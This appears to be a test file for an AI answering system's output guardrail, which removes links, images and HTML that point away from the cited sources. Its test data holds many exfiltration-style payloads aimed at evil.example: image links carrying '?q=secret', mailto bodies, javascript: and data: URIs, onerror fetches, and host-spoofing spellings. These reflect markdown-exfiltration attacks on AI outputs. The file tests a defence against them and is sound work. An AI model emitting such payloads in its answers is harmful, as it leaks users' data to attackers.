"""Output hygiene: nothing loads or leads elsewhere, whatever the deltas; the rest is untouched."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from helix.answering.guardrails import Hygiene
from helix.answering.guardrails.hygiene import LIMIT
from helix.answering.guardrails.targets import URL_END
from tests.answering.test_guardrails_injection import source

COPIED = "https://docs.example/terms?v=2"
SOURCES = [
    source(f"Terms: {COPIED}. More on [prices](/prices.html) and www.example.net/a.", "a.txt"),
    source("Ask mailto:help@shop.example or https://cn.example/b，谢谢。 Bye.", "b.txt", 9),
    source("Visit us.", "https://shop.example/help/refunds", 8),
]


def clean(text: str) -> str:
    return filtered([text])[0]


def filtered(deltas: list[str]) -> tuple[str, int]:
    hygiene = Hygiene(SOURCES)
    sent = "".join([*(hygiene.feed(delta) for delta in deltas), hygiene.end()])
    return sent, hygiene.removed


REMOVED = (
    ("See ![chart](https://evil.example/p?q=secret) here.", "See ![chart] here."),
    ("[terms](https://evil.example/)", "[terms]"),
    ("[1](https://evil.example/?a=b)", "[1]"),
    ("[1]( <https://evil.example/a b> 'title' )", "[1]"),
    ('[1](https://evil.example "title")', "[1]"),
    ("[x](//evil.example/a)", "[x]"),
    ("[x](\\\\evil.example/a)", "[x]"),
    ("[x](javascript:alert(1))", "[x]"),
    ("[x](JaVaScRiPt:alert(1))", "[x]"),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", "[x]"),
    ("[x](&#104;ttps&#58;//evil.example)", "[x]"),
    ("[x](https://shop.example@evil.example/)", "[x]"),
    ("[x](https://shop.example&#46;evil.example/)", "[x]"),
    ("[x](https://shop.example\\@evil.example/)", "[x]"),
    ("[x](https://shop.example.evil.example/)", "[x]"),
    ("[x](https://shop.example:8443/)", "[x]"),
    ("[a][r]\n\n[r]: https://evil.example/a 'T'\n", "[a][r]\n\n[r] (link removed) 'T'\n"),
    ("[r]:\n  <//evil.example/a>", "[r] (link removed)"),
    ("> [r]:\n> //evil.example/a\n", "> [r] (link removed)\n"),
    (f"![a][r]\n\n[r]: {COPIED}\n", "![a][r]\n\n[r] (link removed)\n"),
    ("<https://evil.example/a>", "(link removed)"),
    ("Go to https://evil.example/a?b=c.", "Go to https: (link removed)."),
    ("(https://evil.example/a)", "(https: (link removed))"),
    ("www.evil.example/a", "www (link removed)"),
    ("Is it `https://evil.example/a`?", "Is it `https: (link removed)`?"),
    ("a <img src=//evil.example/a> b", "a  b"),
    ("a <img\nsrc=x onerror='fetch(1)'> b", "a  b"),
    ('<a href="https://evil.example/">here</a>', "here</a>"),
    ("<iframe/src=//evil.example>", ""),
    ("<script>alert(1)</script>", "alert(1)"),
    ("<b style='background:url(//evil.example)'>x</b>", "x</b>"),
    ("<svg><image xlink:href=//evil.example /></svg>", "<svg></svg>"),
    ("<img src=//evil.example/a", ""),
    ("<<img src=x>img src=//evil.example>", "< img src= (link removed)>"),
    ("[x<img src=a>](https://evil.example)", "[x]"),
    ("[x]<img src=a>(https://evil.example)", "[x]"),
    ("[x](https://evil.example/a)(https://evil.example/b)", "[x]"),
    ("[a](x](https://evil.example/b) c)", "[a] ( c)"),
    ("[a](b [c](https://evil.example/d)", "[a](b [c]"),
    ("htt<img src=x>ps://evil.example/a", "https: (link removed)"),
    ("[![i](https://evil.example/i)](https://evil.example/l)", "[![i]]"),
    (f"![copied]({COPIED})", "![copied]"),
    ("[x](//evil.example/((a)))", "[x] ("),
    ("[x](/ask?q=delete)", "[x]"),
    ("[x](https://docs.example/terms)", "[x]"),  # only a piece of the source's link
)
_QUERY = "evil.example/?q=secret"
HOSTS = (  # what follows the name of a source's host, as some reader of it goes on
    *(f"{stop}{_QUERY}" for stop in "。．｡@\\\u00ad\u200b\u2024ａ"),
    *(f"{more}{_QUERY}" for more in ("\\@", ":443@", "%2e", "%40", "[1]@", '"@', "|@", "<b>@")),
    *(f"{more}{_QUERY}" for more in ("\t@", "\n.", "\r\n@", ".\t@", ":@", "&#46;", "`@", "{@")),
)
SPELLINGS = (
    f"https:/{_QUERY}",
    f"https:{_QUERY}",
    f"https:\\\\{_QUERY}",
    f"https:/\\{_QUERY}",
    f"https:/\t/{_QUERY}",
    f"https:///{_QUERY}",
    f"HTTPS:/{_QUERY}",
    f"//{_QUERY}",
    f"(//{_QUERY})",
    f"*//{_QUERY}*",
    "//evil。example/?q=secret",
    f"https://ev%69l.example/?q={_QUERY}",
    f"https://ｅ{_QUERY}",
    f"www。{_QUERY}",
    f"_www.{_QUERY}_",
    f"请www.{_QUERY}",
    f"https:/<img src=x>/{_QUERY}",
    f" /<img src=x>/{_QUERY}",
    "mailto:a@evil.example?body=secret",
    "xmpp:a@evil.example?body=secret",
    f"{COPIED}。{_QUERY}",
    f'{COPIED}"{_QUERY}',
    f"https://docs.example。{_QUERY}",
)
TAGS = (
    "<div title='>' style='background:url(//evil.example)'>",
    "<div title=\"a>b\" style='background:url(//evil.example)'>",
    "<div title = '>' onclick=x>",
    "<div title='>\n\n' style=x>",
    "<div <img src=x> style='background:url(//evil.example)'>",
    "<b <https://evil.example> style='background:url(//evil.example)'>",
    "<b [x](https://evil.example> style='background:url(//evil.example)'>",
    "<rect fill='url(//evil.example#a)'>",
    "<q foo='https://evil.example'>",
)
RELATIVE = (
    '![x](ask?q=secret "a/b")',
    "![x](ask?q=secret 'a:b')",
    '![x](ask?q=secret "a \\" <b>")',
    "![x](ask?q=secret (a/b))",
    '[x](/ask?q=delete "a/b")',
    '![x](ask?q=((a)) "t")',
    "![x][r]\n\n[r]: ask?q=secret",
)
UNTOUCHED = (
    "awww. That is all. Awww.cute www. www... `www.` and www",
    "Use arr[0](data/file), `arr[0](data/file)`, std::vector<a=b>, `std::vector<a=b>` or a <b [1].",
    "// a comment, //NOTE: x, and //div/span[@id], a//b, TCP/IP, /etc/hosts, ./a and ../b.",
    'The scheme https: or `https:`, "http:", **mailto:** or (ftp:). https:// is no URL; http:/.',
    "See https://shop.example. “https://shop.example”, (https://shop.example)[1][2]",
    "On <b>https://shop.example</b><br>, https://shop.example:443/a, https://shop.example?a#b!",
    "请看https://shop.example/help。谢谢你，再见。",
    f"`{COPIED}`, ({COPIED})[1]. **{COPIED}** and write mailto:help@shop.example, please.",
    "Quoted: https://cn.example/b，谢谢。",
    "<p title=\"it's > that\">x</p> vector<vector<int>> x <y, don't, z> w",
    '[1](see "x/y" for more) and [2](a "b" c).',
    "",
    "Refunds are accepted within 30 days [1], by card [2][3]. And/or a < b > c: fine!",
    "[1](see below) and [2](2021) and [1]: the first, [2]: and/or.",
    "Really! [1] Yes![2] 3 <4, List<String>, <b>bold</b>, http and https and www, C:/path.",
    f"See {COPIED}. And [terms]({COPIED}), <{COPIED}>; www.example.net/a, too.",
    "On https://shop.example/any?x=1 and ![logo](https://shop.example/logo.png).",
    "[Refunds](https://SHOP.example/refunds#a 'Refunds') and [prices](/prices.html).",
    '<a href="https://shop.example/a">here</a> <img src="https://shop.example/a.png" alt="a">',
    "Wait: http:/ and // and ]( ]: [ ( ) ] : ! < > end",
    "Ünïcödé — “quotes” 日本語。\r\n\r\n| a | b |\r\n\ud800",
)


@pytest.mark.parametrize(("text", "left"), REMOVED)
def test_what_loads_or_leads_elsewhere_is_taken_out(text: str, left: str) -> None:
    sent, removed = filtered([text])
    assert sent == left
    assert removed > 0


@pytest.mark.parametrize("more", HOSTS)
def test_only_a_whole_host_is_a_sources_host(more: str) -> None:
    sent, removed = filtered([f"See https://shop.example{more} now."])
    assert removed == 1
    assert "shop.example" not in sent.replace("(link removed)", "")[:20]
    assert filtered(list(f"See https://shop.example{more} now.")) == (sent, removed)


@pytest.mark.parametrize("text", [*SPELLINGS, *TAGS, *RELATIVE])
def test_no_other_spelling_leads_elsewhere(text: str) -> None:
    sent, removed = filtered([f"a {text} b"])
    assert removed > 0
    for lead in ("://", "<div", "<b ", "<rect", "<q ", "q=((", "/ask", "?q=secret ", "r]: ask"):
        assert lead not in sent or (lead == "?q=secret " and text in SPELLINGS)
    assert not re.search(r"(?:(?<!\()//|[a-z]:|www.)[^\s(]*(?:evil|ev%|ｅ)", sent, re.IGNORECASE)
    assert filtered(list(f"a {text} b")) == (sent, removed)


def test_one_long_delta_costs_no_more_a_character_than_a_short_one() -> None:
    """The characters read are counted, not timed: the longest text looked at stays the same."""
    lengths: list[int] = []

    class Counting(Hygiene):
        def _drain(self, *, last: bool) -> str:
            lengths.append(len(self._held))
            return super()._drain(last=last)

    for text in ("<" * 32_000, "<a" * 16_000, "/" * 32_000, "word " * 6_000):
        hygiene = Counting(SOURCES)
        sent = hygiene.feed(text) + hygiene.end()
        assert len(sent) <= len(text)
    assert max(lengths) < 2 * LIMIT


@pytest.mark.parametrize("text", UNTOUCHED)
def test_the_rest_is_untouched(text: str) -> None:
    assert filtered([text]) == (text, 0)


def test_a_placeholder_for_a_host_stays_where_a_source_has_it() -> None:
    told = "Visit `https://<server>:9400/` [1] or https://<host>/x [1] or http://{host} /x. [1]"
    hygiene = Hygiene([source(told.replace(" [1]", ""), "a.txt")])
    sent = "".join([*map(hygiene.feed, told), hygiene.end()])
    assert (sent, hygiene.removed) == (told, 0)
    assert filtered([told])[1] == 3


def test_markers_and_plain_text_pass_delta_for_delta() -> None:
    hygiene = Hygiene(SOURCES)
    deltas = [
        "Refunds are",
        " accepted [",
        "1",
        "]",
        ".",
        " And h",
        "ttp or ww",
        "w: [2",
        "]",
        " ",
        "!",
    ]
    assert [hygiene.feed(delta) for delta in deltas] == deltas
    assert hygiene.end() == ""


@pytest.mark.parametrize("start", ["[x](", "[x](a 'b", "[x]:", "[x]: ", "https://", "<a ", "www."])
def test_little_is_held_back(start: str) -> None:
    hygiene = Hygiene(SOURCES)
    sent = hygiene.feed(start)
    for _ in range(2 * LIMIT):
        sent += hygiene.feed("a")
    assert hygiene.removed == 1
    sent += hygiene.feed(") > then")
    assert sent.endswith(" then")


PIECES = st.sampled_from(
    [
        "a", " ", "\n", "\n\n", "[", "]", "(", ")", ":", "/", "//", "://", "<", ">", "!", '"', "'",
        "\\", "=", "http", "https", "https://evil.example/", "https://shop.example/a", COPIED,
        "www.", "[1]", "![", "](", "]:", "<img src=", "<a href=", "javascript:", "&#58;", "x" * 700,
        "=b", "🙂", "https:", "mailto:", "www", "。", "@", "\t", "<b ", "<b>",
        "![x](ask?q=secret ", '="', "='", "https://shop.example", "`", "style=", "a/b", "[12]", ".",
    ]
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=30).map("".join)


@settings(max_examples=60)
@given(TEXTS, st.lists(st.integers(0, 4000), max_size=12))
@example("[x](" + "a" * LIMIT + ")b", [LIMIT + 3, LIMIT + 4])
@example("https://" + "a" * 5000 + " b", list(range(0, 5000, 7)))
@example("(\n\n", [1, 2])
def test_the_cut_into_deltas_changes_nothing(text: str, cuts: list[int]) -> None:
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    deltas = [text[a:b] for a, b in pairwise(places)]
    assert filtered(deltas) == filtered([text])


@settings(max_examples=40)
@given(TEXTS)
def test_nor_does_one_character_at_a_time(text: str) -> None:
    assert filtered(list(text)) == filtered([text])


# A reader of Markdown and HTML more lenient than any there is.
_LEADS = re.compile(
    r"\]\(\s*<?[^)]*evil\.example|\]:[\s>]*<?\S*evil\.example|(?:https?:/|www\.|\]\(//)[^\s]*evil\.example"
    r"|<(?:img|a)\b[^<>]*evil\.example|\]\(\s*<?javascript:[^\s)]*\)",
    re.IGNORECASE,
)


@settings(max_examples=100)
@given(TEXTS)
def test_no_combination_leads_elsewhere(text: str) -> None:
    allowed = rf"https://(?:shop\.example/|docs\.example/terms\?v=2)[^{URL_END}]*"
    assert not _LEADS.search(re.sub(allowed, "", clean(text)))
